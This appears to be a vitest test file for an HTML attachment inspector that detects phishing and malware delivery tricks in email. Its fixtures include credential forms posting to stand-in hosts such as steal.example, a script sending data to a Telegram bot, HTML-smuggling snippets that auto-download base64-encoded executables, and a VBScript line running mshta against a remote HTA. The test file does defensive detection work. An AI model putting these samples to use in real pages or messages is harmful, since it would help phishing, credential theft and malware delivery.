import { describe, expect, it } from 'vitest';
import { inspectHtml } from '../../../src/message/attachments/html.js';

const html = (s: string) => inspectHtml(Buffer.from(s));
const codes = (s: string) => html(s).observations.map((o) => o.code);

describe('inspectHtml', () => {
  it('flags a login form that posts elsewhere, with links and their text', () => {
    const r = html(`<html><body><h1>Microsoft 365</h1>
      <form action="https://collect.example/next.php" method="POST">
        <input type="email" name="u"><input type="PASSWORD" name="p"></form>
      <a href="https://help.example/">Forgot &amp; reset</a></body></html>`);
    expect(r.observations.map((o) => o.code)).toEqual(['html-credential-form']);
    expect(r.observations[0].evidence).toMatchObject({
      sendsElsewhere: true,
      formActions: ['https://collect.example/next.php'],
    });
    expect(r.links).toEqual([
      { url: 'https://collect.example/next.php' },
      { url: 'https://help.example/', displayText: 'Forgot & reset' },
    ]);
  });
  it('flags a password field even when the script sends it', () => {
    const r = html(
      '<input type="password" id="p"><script>fetch("https://api.telegram.org/botX/sendMessage")</script>',
    );
    expect(r.observations.map((o) => o.code)).toEqual(['html-credential-form']);
    expect(r.links).toEqual([{ url: 'https://api.telegram.org/botX/sendMessage' }]);
  });
  it('recognises HTML smuggling (blob built from base64 and saved)', () => {
    const page = `<html><body><script>
      var b64 = "TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAAAAAAAAAAAAAAAAA=";
      var bytes = Uint8Array.from(atob(b64), c => c.charCodeAt(0));
      var blob = new Blob([bytes], {type: 'application/octet-stream'});
      var a = document.createElement('a'); a.href = URL.createObjectURL(blob); a.download = 'invoice.iso'; a.click();
    </script></body></html>`;
    const r = html(page);
    expect(r.observations.map((o) => o.code)).toContain('html-smuggling');
    expect(r.observations.find((o) => o.code === 'html-smuggling')?.evidence?.patterns).toEqual(
      expect.arrayContaining(['new Blob', 'createObjectURL', 'download attribute', 'base64 decoding']),
    );
  });
  it('recognises smuggling through msSaveOrOpenBlob and data: download links', () => {
    expect(
      codes('<script>var b = new Blob([d]); window.navigator.msSaveOrOpenBlob(b, "a.zip")</script>'),
    ).toContain('html-smuggling');
    expect(
      codes('<a href="data:application/octet-stream;base64,TVqQ" download="setup.exe">Get</a>'),
    ).toContain('html-smuggling');
  });
  it('flags HTA-style script that starts programs', () => {
    const r = html(
      '<script language="VBScript">Set s = CreateObject("WScript.Shell"): s.Run "mshta https://x.example/a.hta"</script>',
    );
    expect(r.observations.map((o) => o.code)).toEqual(['html-runs-programs']);
    expect(r.observations[0].evidence).toEqual({ calls: ['WScript.Shell', 'mshta'] });
  });
  it('does not call ordinary scripts smuggling', () => {
    expect(
      codes('<script>document.getElementById("x").textContent = "hi"; var b = new Blob(["a"]);</script>'),
    ).toEqual([]);
    expect(codes('<p>Just a receipt. <a href="https://shop.example/order/1">Order</a></p>')).toEqual([]);
  });
  it('decodes HTML hidden in atob() and reads its form', () => {
    const hidden = Buffer.from(
      '<form action="https://steal.example/p"><input type="password" name="pw"></form>',
    ).toString('base64');
    const r = html(`<script>document.write(atob("${hidden}"))</script>`);
    expect(r.observations.map((o) => o.code)).toEqual(
      expect.arrayContaining(['html-credential-form', 'html-obfuscated-script']),
    );
    expect(r.links).toContainEqual({ url: 'https://steal.example/p' });
  });
  it('decodes percent-encoded HTML in unescape()', () => {
    const hidden = encodeURIComponent(
      '<meta http-equiv="refresh" content="0; url=https://next.example/">  padding padding',
    );
    const r = html(`<script>document.write(unescape('${hidden}'))</script>`);
    expect(r.observations.map((o) => o.code)).toEqual(
      expect.arrayContaining(['html-redirect', 'html-obfuscated-script']),
    );
    expect(r.links).toContainEqual({ url: 'https://next.example/' });
  });
  it('flags meta refresh and script redirects', () => {
    const r = html('<meta http-equiv="Refresh" content="0;URL=\'https://land.example/x\'">');
    expect(r.observations[0]).toMatchObject({
      code: 'html-redirect',
      evidence: { target: 'https://land.example/x' },
    });
    expect(codes('<script>window.location.href = "https://go.example/" + location.hash</script>')).toEqual([
      'html-redirect',
    ]);
  });
  it('treats event handlers as script: an auto-clicked link is a redirect', () => {
    const r = html(
      `<body onload="document.getElementById('1').click();"><a id="1" href="https://free-coins.example/">Open</a></body>`,
    );
    expect(r.observations.map((o) => o.code)).toEqual(['html-redirect']);
    expect(r.links).toEqual([{ url: 'https://free-coins.example/', displayText: 'Open' }]);
  });
  it('caps the number of links from a generated page', () => {
    const r = html(
      '<a href="https://x.example/">x</a>'.repeat(10) +
        Array.from({ length: 2000 }, (_, i) => `<a href="https://x.example/${i}">x</a>`).join(''),
    );
    expect(r.links.length).toBeLessThanOrEqual(500);
  });
});
